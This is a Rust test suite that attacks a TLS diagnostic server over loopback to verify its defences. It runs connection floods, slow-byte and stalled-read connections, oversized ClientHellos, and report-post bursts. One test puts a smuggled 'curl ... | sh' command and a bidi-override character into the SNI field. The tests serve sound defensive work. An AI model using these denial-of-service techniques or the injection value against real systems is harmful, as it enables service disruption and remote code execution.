//! Hostile traffic on loopback, as an attacker would send it: floods of silent
//! and slow connections from one address, phases that never end, ClientHellos
//! built to amplify, bursts of report posts, peer text aimed at a shell or a
//! terminal. Each test checks what another user (or the operator) would
//! notice: answers still come, every response and store stays within the
//! bound the README and docs/api.md state.
//!
//! Loopback has all of 127.0.0.0/8, so each role gets its own source address.
#![allow(clippy::unwrap_used)]

mod common;

use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use common::{body_of, http_request_from, json, TestServer};
use rustls::pki_types::ServerName;
use tlsdiag::config::Deadlines;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

const ATTACKER: [u8; 4] = [127, 0, 0, 2];

/// One test at a time: each measures the process (descriptors, RSS) or
/// loads it, and the server under test runs in this process.
static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
const CUSTOMER: [u8; 4] = [127, 0, 0, 3];

async fn connect_from(from: [u8; 4], to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(IpAddr::from(from), 0))?;
    socket.connect(to).await
}

/// A full HTTPS exchange from `from`: handshake, one GET, the whole answer.
async fn https_get_from(server: &TestServer, from: [u8; 4], path: &str) -> Vec<u8> {
    let tcp = connect_from(from, server.https).await.expect("connect");
    let connector = tokio_rustls::TlsConnector::from(server.client_config(&["http/1.1"]));
    let mut tls = connector
        .connect(ServerName::try_from("localhost").unwrap(), tcp)
        .await
        .expect("handshake");
    let request = format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
    tls.write_all(request.as_bytes()).await.expect("request");
    let mut response = Vec::new();
    let _ = tls.read_to_end(&mut response).await;
    response
}

/// Whether the server has closed `stream` (EOF or reset), without waiting.
fn closed(stream: &TcpStream) -> bool {
    let mut byte = [0u8; 1];
    match stream.try_read(&mut byte) {
        Ok(0) => true,
        Ok(_) => false,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(_) => true,
    }
}

/// Waits until the server closes `stream`; how long that took.
async fn time_to_close(stream: &mut TcpStream, limit: Duration) -> Option<Duration> {
    let start = Instant::now();
    let mut sink = vec![0u8; 64 * 1024];
    loop {
        match tokio::time::timeout_at(
            tokio::time::Instant::from_std(start + limit),
            stream.read(&mut sink),
        )
        .await
        {
            Err(_) => return None,
            Ok(Ok(0)) | Ok(Err(_)) => return Some(start.elapsed()),
            Ok(Ok(_)) => continue,
        }
    }
}

/// A ClientHello with these cipher suites and extensions, in as many
/// records as it needs (16 KiB each).
fn hello(suites: &[u16], extensions: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let mut body = vec![0x03, 0x03];
    body.extend([0x5a; 32]);
    body.push(0);
    body.extend(((suites.len() * 2) as u16).to_be_bytes());
    for s in suites {
        body.extend(s.to_be_bytes());
    }
    body.extend([1, 0]);
    let mut exts = Vec::new();
    for (kind, data) in extensions {
        exts.extend(kind.to_be_bytes());
        exts.extend((data.len() as u16).to_be_bytes());
        exts.extend(data);
    }
    body.extend((exts.len() as u16).to_be_bytes());
    body.extend(exts);
    let mut handshake = vec![1];
    handshake.extend(&(body.len() as u32).to_be_bytes()[1..]);
    handshake.extend(body);
    let mut wire = Vec::new();
    for chunk in handshake.chunks(16 * 1024) {
        wire.extend([0x16, 0x03, 0x01]);
        wire.extend((chunk.len() as u16).to_be_bytes());
        wire.extend(chunk);
    }
    wire
}

fn sni_extension(name: &str) -> (u16, Vec<u8>) {
    let mut entry = vec![0];
    entry.extend((name.len() as u16).to_be_bytes());
    entry.extend(name.as_bytes());
    let mut data = (entry.len() as u16).to_be_bytes().to_vec();
    data.extend(entry);
    (0, data)
}

/// Sends `bytes` as a ClientHello from `from` and waits for the server's
/// answer (or its close), so the attempt is recorded before we go on.
async fn send_hello(from: [u8; 4], to: SocketAddr, bytes: &[u8]) {
    let mut stream = connect_from(from, to).await.expect("connect");
    stream.write_all(bytes).await.expect("send hello");
    let mut sink = vec![0u8; 16 * 1024];
    let _ = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut sink)).await;
}

fn rss_bytes() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    let kb: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    kb * 1024
}

fn open_descriptors() -> usize {
    std::fs::read_dir("/proc/self/fd").unwrap().count()
}

/// The listener limits of the shipped defaults (4,096 per listener, 1,024
/// per address), whatever the test defaults are.
fn shipped_limits(mut c: tlsdiag::config::Config) -> tlsdiag::config::Config {
    c.max_connections = 4096;
    c.max_connections_per_address = 1024;
    c
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_flood_from_one_address_leaves_every_listener_to_the_others() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start_with(shipped_limits).await;
    const FLOOD: usize = 2000;
    const SLOW: usize = 100;
    let mut flood: Vec<(&str, Vec<TcpStream>)> = Vec::new();
    for (name, target) in [("https", server.https), ("http", server.http)] {
        let mut held = Vec::with_capacity(FLOOD + SLOW);
        for _ in 0..FLOOD {
            held.push(
                connect_from(ATTACKER, target)
                    .await
                    .expect("attacker connects"),
            );
        }
        flood.push((name, held));
    }
    // Slow ones on each listener: a ClientHello or a request head, one byte
    // every 300 ms, for as long as the test runs.
    let mut slow = Vec::new();
    for (target, text) in [
        (
            server.https,
            &b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"[..],
        ),
        (
            server.http,
            &b"GET / HTTP/1.1\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaa"[..],
        ),
    ] {
        for _ in 0..SLOW {
            let mut stream = connect_from(ATTACKER, target).await.expect("connect");
            slow.push(tokio::spawn(async move {
                for byte in text.iter().cycle() {
                    if stream.write_all(&[*byte]).await.is_err() {
                        return;
                    }
                    tokio::time::sleep(Duration::from_millis(300)).await;
                }
            }));
        }
    }

    // Meanwhile another address is served, on both listeners, promptly.
    for round in 0..8 {
        let started = Instant::now();
        let answer = https_get_from(&server, CUSTOMER, "/api/v1/connection").await;
        let report = json(&body_of(&answer));
        assert_eq!(report["client"]["address"], "127.0.0.3");
        let page = http_request_from(
            server.http,
            IpAddr::from(CUSTOMER),
            "/",
            &[("Accept", "text/plain")],
        )
        .await;
        assert!(page.contains("127.0.0.3"), "round {round}: {page}");
        let took = started.elapsed();
        assert!(
            took < Duration::from_secs(3),
            "round {round}: the customer waited {took:?} during the flood"
        );
    }

    // The attacker holds no more than its share of each listener: the rest
    // of its connections were shed (its own oldest first) as it opened more.
    tokio::time::sleep(Duration::from_millis(500)).await;
    for (name, held) in &flood {
        let open = held.iter().filter(|s| !closed(s)).count();
        // Its slow connections are its newest, so they count first.
        assert!(
            open + SLOW <= 1024,
            "{name}: the attacker still holds {open} of its {FLOOD} silent connections"
        );
        assert!(
            open + SLOW >= 1000,
            "{name}: only {open} open: the cap sheds far more than it must"
        );
    }
    for task in slow {
        task.abort();
    }
}

fn short_deadlines(mut c: tlsdiag::config::Config) -> tlsdiag::config::Config {
    c.deadlines = Deadlines {
        first_byte: Duration::from_secs(2),
        head: Duration::from_secs(2),
        body: Duration::from_secs(3),
        write_stall: Duration::from_secs(2),
        idle: Duration::from_secs(2),
    };
    c
}

#[tokio::test(flavor = "multi_thread")]
async fn every_phase_of_a_connection_has_a_deadline() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start_with(short_deadlines).await;
    let within = Duration::from_secs(6);

    // Silent on plain HTTP.
    let mut silent = connect_from(ATTACKER, server.http).await.unwrap();
    let took = time_to_close(&mut silent, within).await;
    assert!(
        took.is_some_and(|t| t >= Duration::from_millis(1900)),
        "silent plain: {took:?}"
    );

    // Silent after a completed TLS handshake.
    let tcp = connect_from(ATTACKER, server.https).await.unwrap();
    let connector = tokio_rustls::TlsConnector::from(server.client_config(&["http/1.1"]));
    let mut tls = connector
        .connect(ServerName::try_from("localhost").unwrap(), tcp)
        .await
        .expect("handshake");
    let started = Instant::now();
    let mut sink = [0u8; 64];
    let end = tokio::time::timeout(within, tls.read(&mut sink)).await;
    assert!(
        matches!(end, Ok(Ok(0)) | Ok(Err(_))),
        "silent after the handshake: {end:?} after {:?}",
        started.elapsed()
    );

    // A request head trickled a byte at a time, never finished.
    let mut slow = connect_from(ATTACKER, server.http).await.unwrap();
    let started = Instant::now();
    let mut ended = None;
    for byte in b"GET / HTTP/1.1\r\nX-Slow: ".iter().cycle().take(100) {
        if slow.write_all(&[*byte]).await.is_err() || closed(&slow) {
            ended = Some(started.elapsed());
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(ended.is_some_and(|t| t < within), "slow head: {ended:?}");

    // A body announced as 60,000 bytes, 7 sent.
    let mut body = connect_from(ATTACKER, server.http).await.unwrap();
    body.write_all(
        b"POST /api/v1/probe/results HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{\"run\":",
    )
    .await
    .unwrap();
    let took = time_to_close(&mut body, within).await;
    assert!(
        took.is_some(),
        "a body that never completes holds the connection"
    );

    // A download the client never reads: its writes stop progressing.
    let socket = TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    socket
        .bind(SocketAddr::new(IpAddr::from(ATTACKER), 0))
        .unwrap();
    let mut reader = socket.connect(server.http).await.unwrap();
    const SIZE: usize = 16 * 1024 * 1024;
    reader
        .write_all(
            format!("GET /probe/down/{SIZE} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                .as_bytes(),
        )
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_secs(5)).await;
    let mut got = 0usize;
    let mut buf = vec![0u8; 256 * 1024];
    loop {
        match tokio::time::timeout(Duration::from_secs(5), reader.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(n)) => got += n,
            Err(_) => panic!("the unread download is still open after {got} bytes"),
        }
    }
    assert!(
        got < SIZE,
        "the whole download arrived: the write never stalled"
    );

    // Keep-alive: one request, then nothing.
    let mut idle = connect_from(ATTACKER, server.http).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let took = time_to_close(&mut idle, within).await;
    assert!(took.is_some(), "an idle keep-alive connection stays open");
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_hellos_cannot_amplify_an_answer_or_grow_memory() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start().await;
    let hostile = [127, 0, 0, 4];
    let suites: Vec<u16> = (0..32_000u16).map(|i| 0x0a0a + i).collect();
    let big_cipher_list = hello(&suites, &[sni_extension("localhost")]);
    assert!(big_cipher_list.len() > 64_000);
    let many_extensions: Vec<(u16, Vec<u8>)> =
        (0..16_000u16).map(|i| (0x4000 + i, Vec::new())).collect();
    let extension_heavy = hello(&[0x1301], &many_extensions);
    assert!(extension_heavy.len() > 64_000);
    // One list-bearing extension repeated: lists inside lists.
    let groups: Vec<u8> = (0..150u16)
        .flat_map(|g| (0x1000 + g).to_be_bytes())
        .collect();
    let mut group_list = ((groups.len()) as u16).to_be_bytes().to_vec();
    group_list.extend(groups);
    let repeated: Vec<(u16, Vec<u8>)> = (0..200).map(|_| (10u16, group_list.clone())).collect();
    let nested = hello(&[0x1301], &repeated);
    assert!(nested.len() > 60_000);

    // Warm up allocator pools with one of each before measuring.
    send_hello(hostile, server.https, &big_cipher_list).await;
    send_hello(hostile, server.https, &extension_heavy).await;
    let before = rss_bytes();
    for round in 0..60 {
        let bytes = match round % 3 {
            0 => &big_cipher_list,
            1 => &extension_heavy,
            _ => &nested,
        };
        send_hello(hostile, server.https, bytes).await;
    }
    let grown = rss_bytes().saturating_sub(before);
    eprintln!("RSS grew {grown} bytes over 60 hostile hellos");
    // The attempt store's whole budget is 64 MiB, one address's 2 MiB.
    assert!(
        grown < 64 * 1024 * 1024,
        "RSS grew {grown} bytes for 60 hostile hellos from one address"
    );

    // Every answer to that address stays within the documented bounds.
    let from = IpAddr::from(hostile);
    let attempts = http_request_from(server.http, from, "/api/v1/attempts", &[]).await;
    let list = json(&attempts);
    let n = list["attempts"].as_array().unwrap().len();
    assert!(n >= 1, "{attempts}");
    assert!(
        attempts.len() <= 256 * 1024,
        "/api/v1/attempts: {} bytes for {n} attempts",
        attempts.len()
    );
    eprintln!("/api/v1/attempts: {} bytes, {n} attempts", attempts.len());
    for path in ["/api/v1/connection", "/?format=text", "/?format=html"] {
        let body = http_request_from(server.http, from, path, &[]).await;
        eprintln!("{path}: {} bytes", body.len());
        assert!(
            body.len() <= 256 * 1024,
            "{path}: {} bytes for a client that sent hostile hellos",
            body.len()
        );
    }
    let id = list["attempts"][0]["id"].as_u64().unwrap();
    let detail = http_request_from(server.http, from, &format!("/api/v1/attempts/{id}"), &[]).await;
    assert!(
        detail.len() <= 1024 * 1024,
        "one attempt's detail: {} bytes",
        detail.len()
    );
    eprintln!("one attempt's detail: {} bytes", detail.len());
    let detail = json(&detail);
    assert_eq!(detail["detail"]["client_hello"]["listed_in_full"], false);
    // Another address sees none of it.
    let other =
        http_request_from(server.http, IpAddr::from(CUSTOMER), "/api/v1/attempts", &[]).await;
    assert_eq!(json(&other)["attempts"].as_array().unwrap().len(), 0);
}

fn results_body(run: &str) -> String {
    format!(
        r#"{{"run":"{run}","agent":"check.sh","down":[{{"bytes":1024,"ok":false,"ms":5000.0,"error":"timed out"}}],"up":[]}}"#
    )
}

async fn post_results_from(
    server: &TestServer,
    from: IpAddr,
    content_type: &str,
    body: &str,
) -> String {
    let mut stream = connect_from(
        match from {
            IpAddr::V4(v4) => v4.octets(),
            IpAddr::V6(_) => unreachable!(),
        },
        server.http,
    )
    .await
    .unwrap();
    let request = format!(
        "POST /api/v1/probe/results HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\nAccept: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response).await;
    String::from_utf8_lossy(&response).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn report_creation_is_rate_limited_json_only_and_within_the_disk_cap() {
    let _one = ONE_AT_A_TIME.lock().await;
    const CAP: u64 = 128 * 1024;
    let server = TestServer::start_with(|mut c| {
        c.reports.max_bytes = CAP;
        c.reports.burst = 10;
        c.reports.every = std::time::Duration::from_secs(20);
        c
    })
    .await;
    // A cross-site page can post text/plain without a preflight: refused.
    let plain = post_results_from(
        &server,
        IpAddr::from([127, 0, 0, 5]),
        "text/plain",
        &results_body("plaintext01"),
    )
    .await;
    assert!(plain.starts_with("HTTP/1.1 415"), "{plain}");

    // A burst from one address: the first few are saved; every later one
    // still gets its verdict, unsaved, with when the next can be saved.
    let mut saved = 0;
    let mut limited = 0;
    for i in 0..60 {
        let answer = post_results_from(
            &server,
            IpAddr::from([127, 0, 0, 5]),
            "application/json",
            &results_body(&format!("burst{i:05}")),
        )
        .await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        let json: serde_json::Value = serde_json::from_str(&body_of(answer.as_bytes())).unwrap();
        assert!(
            json["verdict"].as_str().is_some_and(|v| !v.is_empty()),
            "{json}"
        );
        if json["report_url"].is_string() {
            saved += 1;
        } else {
            let why = json["report_error"].as_str().unwrap_or_default();
            assert!(
                why.starts_with("too many reports from your address; the next can be saved in "),
                "{why}"
            );
            limited += 1;
        }
    }
    assert_eq!(saved, 10, "a burst of 10 is allowed");
    assert_eq!(limited, 50);

    // Many addresses filling the store: it never holds more than its cap.
    let mut total_sent = 0usize;
    for host in 0..20u8 {
        for i in 0..5 {
            let answer = post_results_from(
                &server,
                IpAddr::from([127, 0, 1, host]),
                "application/json",
                &results_body(&format!("fill{host:03}x{i:03}")),
            )
            .await;
            assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
            total_sent += body_of(answer.as_bytes()).len();
        }
    }
    assert!(total_sent as u64 > 2 * CAP, "the test must exceed the cap");
    let db = rusqlite::Connection::open(server.data_dir().join("reports.sqlite3")).unwrap();
    let stored: i64 = db
        .query_row("SELECT COALESCE(SUM(size), 0) FROM reports", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert!(stored as u64 <= CAP, "{stored} bytes stored, cap {CAP}");
}

#[tokio::test(flavor = "multi_thread")]
async fn peer_text_never_becomes_a_command_or_a_terminal_trick() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start().await;
    let from = [127, 0, 0, 6];
    let hostile_sni = "a.example;curl${IFS}x|sh;#";
    send_hello(
        from,
        server.https,
        &hello(
            &[0x1301],
            &[sni_extension(hostile_sni), (43, vec![2, 3, 4])],
        ),
    )
    .await;
    let bidi_sni = "gro\u{202E}gle.example";
    send_hello(
        from,
        server.https,
        &hello(&[0x1301], &[sni_extension(bidi_sni), (43, vec![2, 3, 4])]),
    )
    .await;
    let list =
        json(&http_request_from(server.http, IpAddr::from(from), "/api/v1/attempts", &[]).await);
    let mut fixes = Vec::new();
    for attempt in list["attempts"].as_array().unwrap() {
        let id = attempt["id"].as_u64().unwrap();
        let detail = json(
            &http_request_from(
                server.http,
                IpAddr::from(from),
                &format!("/api/v1/attempts/{id}"),
                &[],
            )
            .await,
        );
        for finding in detail["findings"].as_array().unwrap() {
            for fix in finding["fix"].as_array().into_iter().flatten() {
                fixes.push(fix.as_str().unwrap().to_owned());
            }
        }
    }
    let dig: Vec<&String> = fixes.iter().filter(|f| f.contains("dig ")).collect();
    assert!(!dig.is_empty(), "no dig suggestion at all: {fixes:?}");
    for fix in dig {
        assert!(
            !fix.contains("curl") && !fix.contains('$') && !fix.contains(';'),
            "peer text in a command: {fix}"
        );
    }
    let text = http_request_from(server.http, IpAddr::from(from), "/api/v1/attempts", &[]).await;
    assert!(
        text.contains("\\u202e") || text.contains("\u{202E}"),
        "JSON keeps the value"
    );
    let page = http_request_from(server.http, IpAddr::from(from), "/?format=text", &[]).await;
    assert!(
        !page.contains('\u{202E}'),
        "a bidi override reached the terminal"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn each_connection_holds_one_descriptor() {
    let _one = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start().await;
    let from = [127, 0, 0, 7];
    const N: usize = 200;
    let before = open_descriptors();
    let mut held = Vec::new();
    let connector = tokio_rustls::TlsConnector::from(server.client_config(&["http/1.1"]));
    for _ in 0..N {
        let tcp = connect_from(from, server.https).await.unwrap();
        let mut tls = connector
            .connect(ServerName::try_from("localhost").unwrap(), tcp)
            .await
            .expect("handshake");
        tls.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
            .await
            .unwrap();
        let mut buf = [0u8; 256];
        let n = tls.read(&mut buf).await.unwrap();
        assert!(n > 0);
        held.push(tls);
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let per_connection = (open_descriptors() - before) as f64 / N as f64;
    // One for our client end, one for the server's: never a duplicate.
    assert!(
        per_connection <= 2.05,
        "{per_connection:.2} descriptors per HTTPS connection (client end included)"
    );
    let before = open_descriptors();
    let mut plain = Vec::new();
    for _ in 0..N {
        let mut stream = connect_from(from, server.http).await.unwrap();
        stream
            .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            .await
            .unwrap();
        let mut buf = [0u8; 256];
        assert!(stream.read(&mut buf).await.unwrap() > 0);
        plain.push(stream);
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let per_connection = (open_descriptors() - before) as f64 / N as f64;
    assert!(
        per_connection <= 2.05,
        "{per_connection:.2} descriptors per plain-HTTP connection (client end included)"
    );
    drop(held);
    drop(plain);
}

trait DataDir {
    fn data_dir(&self) -> std::path::PathBuf;
}

impl DataDir for TestServer {
    fn data_dir(&self) -> std::path::PathBuf {
        self.cert.parent().unwrap().with_file_name("data")
    }
}
